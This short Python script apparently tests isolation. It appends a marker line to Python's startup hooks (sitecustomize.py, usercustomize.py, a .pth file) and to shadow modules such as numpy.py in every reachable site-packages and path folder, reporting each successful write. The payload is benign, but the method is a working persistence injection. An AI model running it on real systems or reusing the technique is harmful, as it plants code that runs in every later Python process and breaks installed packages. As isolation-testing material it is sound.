"""Writes code where Python looks when the next process starts."""

ABOUT = {"needs_isolation": True}

import os, site, sys, glob

code = "import builtins; builtins.INFECTED = True"
for folder in [*site.getsitepackages(), sys.prefix, os.path.dirname(os.__file__), *filter(None, sys.path)]:
    for name in ("sitecustomize.py", "zzz.pth", "usercustomize.py", "wire.py", "numpy.py"):
        try:
            open(os.path.join(folder, name), "a").write(code)
            print("STOLEN", folder)
        except Exception:
            pass
